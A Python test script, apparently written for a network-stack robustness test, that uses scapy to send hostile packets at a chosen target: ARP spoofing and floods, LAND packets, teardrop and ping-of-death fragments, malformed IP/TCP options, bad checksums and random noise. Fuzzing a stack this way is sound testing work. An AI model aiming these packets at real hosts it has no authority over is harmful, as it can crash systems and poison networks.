#!/usr/bin/python3
"""Malformed and hostile packets, for hostile_test.py, by Debian's python3-scapy:

    evil.py arp|land|fragments|options|checksums|noise INTERFACE ADDRESS MAC PORT

ADDRESS is whom they are for. The seed of what is random is printed."""

import logging
import os
import random
import sys

logging.getLogger("scapy").setLevel(logging.ERROR)
from scapy.layers.inet import in4_chksum  # noqa: E402
from scapy.utils import checksum  # noqa: E402
from scapy.all import ARP, ICMP, IP, TCP, UDP, Ether, Raw, RandMAC, conf, get_if_addr, get_if_hwaddr  # noqa: E402

WHAT, IFACE, TARGET, MAC, PORT = sys.argv[1:6]
PORT = int(PORT)
SEED = int.from_bytes(os.urandom(4), "little")
RANDOM = random.Random(SEED)
OWN = get_if_addr(IFACE)
ETHER = Ether(src=get_if_hwaddr(IFACE), dst=MAC, type=0x0800)


def ip(**fields):
    return ETHER / IP(**{"src": OWN, "dst": TARGET, **fields})


def somebody():
    return f"10.77.0.{RANDOM.randrange(3, 250)}"


def arp():
    """Requests and answers for and from everybody, also in our name and with nonsense in them."""
    for _ in range(1500):
        mac = str(RandMAC())
        yield Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=mac, psrc=somebody(), pdst=TARGET)
        yield Ether(src=mac, dst=MAC) / ARP(op=2, hwsrc=mac, psrc=somebody(), hwdst=MAC, pdst=TARGET)
    for field in ({"hwlen": 0}, {"plen": 16}, {"hwlen": 255, "plen": 255}, {"op": 77}, {"hwtype": 9}, {"ptype": 0}):
        yield Ether(dst=MAC) / ARP(**{"op": 1, "psrc": OWN, "pdst": TARGET, **field})


def land():
    """From the target to itself, and from addresses that nobody has."""
    for source in (TARGET, "127.0.0.1", "0.0.0.0", "255.255.255.255", "224.0.0.1", "10.77.0.255", "240.0.0.1"):
        for _ in range(20):
            yield ip(src=source) / TCP(sport=PORT, dport=PORT, flags="S", seq=RANDOM.getrandbits(32))
            yield ip(src=source) / UDP(sport=PORT, dport=PORT) / b"echo"
            yield ip(src=source) / ICMP() / b"ping"
    for target in ("255.255.255.255", "10.77.0.255"):
        yield ETHER / IP(src=OWN, dst=target) / TCP(sport=1, dport=PORT, flags="S")


def fragments():
    """Teardrop (one inside another), the ping of death, tiny ones, overlaps that say different things, holes for ever."""
    data = bytes(range(256)) * 4
    for i in range(200):
        yield ip(id=i, flags="MF", proto=17) / Raw(data[:36 // 8 * 8])
        yield ip(id=i, frag=3, proto=17) / Raw(data[:4])
        yield ip(id=1000 + i, flags="MF", proto=6) / Raw(data[:8])                      # RFC 1858: the flags are in the next
        yield ip(id=1000 + i, frag=1, proto=6) / Raw(data[:32])
        yield ip(id=2000 + i, flags="MF", proto=17) / Raw(data[:64])
        yield ip(id=2000 + i, flags="MF", frag=4, proto=17) / Raw(data[64:128])
        yield ip(id=3000 + i, frag=8189, proto=1) / Raw(data[:800])                     # ends beyond 65535
        yield ip(id=4000 + i, flags="MF", proto=17) / Raw(data[:13])                    # no multiple of eight
        yield ip(id=5000 + i, flags="MF", frag=RANDOM.randrange(0, 4000), proto=17) / Raw(data)


def options():
    """Of IP and of TCP: too long, too short, over the end, unknown, repeated."""
    def raw_ip(opts, payload=b""):
        opts += bytes(-len(opts) % 4)
        hdr = bytes(IP(src=OWN, dst=TARGET, proto=1, ihl=5 + len(opts) // 4, len=20 + len(opts) + len(payload), chksum=0)) + opts
        return bytes(ETHER / Raw(hdr[:10] + checksum(hdr).to_bytes(2, "big") + hdr[12:] + payload))

    def raw_tcp(opts, flags="S", dataofs=None):
        opts += bytes(-len(opts) % 4)
        segment = bytes(TCP(sport=RANDOM.randrange(1024, 65536), dport=PORT, flags=flags, seq=RANDOM.getrandbits(32),
                            dataofs=dataofs if dataofs is not None else 5 + len(opts) // 4))
        packet = ip(proto=6) / Raw(segment[:20] + opts)
        # The checksum is right: it is the options that are looked at.
        total = segment[:16] + b"\0\0" + segment[18:20] + opts
        check = in4_chksum(6, IP(src=OWN, dst=TARGET), total)
        packet[Raw].load = total[:16] + check.to_bytes(2, "big") + total[18:]
        return packet

    for _ in range(50):
        for opts in (b"\x07\x00\x00\x00", b"\x07\x01\x00\x00", b"\x07\xff\x04\x00", b"\x44\x03\x05\x00", b"\x44\x28\x05\x00",
                     b"\x83\x07\x04\x0a\x4d\x00\x02\x00", b"\x89\x07\x04\x0a\x4d\x00\x02\x00", b"\x99\x02\x99\x02",
                     b"\x07\x27\x04" + bytes(37), RANDOM.randbytes(40)):
            yield raw_ip(opts, bytes(ICMP()))
        for opts in (b"\x02\x00\x00\x00", b"\x02\x01\x05\xb4", b"\x02\xff\x05\xb4", b"\x02\x04\x00\x00", b"\x03\x03\xff\x00",
                     b"\x05\x02\x05\x03", b"\x05\xff\x00\x00", b"\x08\x02\x08\x02", b"\xfe\x00\xfe\x00", RANDOM.randbytes(40)):
            yield raw_tcp(opts)
            yield raw_tcp(opts, flags=RANDOM.randrange(256))
        for dataofs in (0, 1, 4, 15):
            yield raw_tcp(b"", dataofs=dataofs)


def checksums():
    for _ in range(200):
        bad = RANDOM.randrange(1, 65535)
        yield ip(chksum=bad) / TCP(sport=1, dport=PORT, flags="S")
        yield ip() / TCP(sport=1, dport=PORT, flags="S", chksum=bad)
        yield ip() / UDP(sport=1, dport=PORT, chksum=bad) / b"data"
        yield ip() / ICMP(chksum=bad) / b"data"


def noise():
    """Anything: headers with what is random in every field, cut anywhere, of every protocol."""
    for _ in range(3000):
        whole = bytearray(bytes(ip(proto=RANDOM.choice((1, 2, 6, 17, RANDOM.randrange(256)))) /
                                Raw(RANDOM.randbytes(RANDOM.randrange(200)))))
        for _ in range(RANDOM.randrange(6)):
            whole[RANDOM.randrange(12, len(whole))] = RANDOM.randrange(256)
        yield bytes(whole[:RANDOM.randrange(15, len(whole) + 1)])
    for flags in range(256):
        yield ip() / TCP(sport=RANDOM.randrange(1024, 65536), dport=PORT, flags=flags, seq=RANDOM.getrandbits(32),
                         ack=RANDOM.getrandbits(32), urgptr=RANDOM.getrandbits(16)) / RANDOM.randbytes(RANDOM.randrange(50))


print("seed", SEED)
socket = conf.L2socket(iface=IFACE)
for frame in globals()[WHAT]():
    socket.send(frame if isinstance(frame, bytes) else bytes(frame))
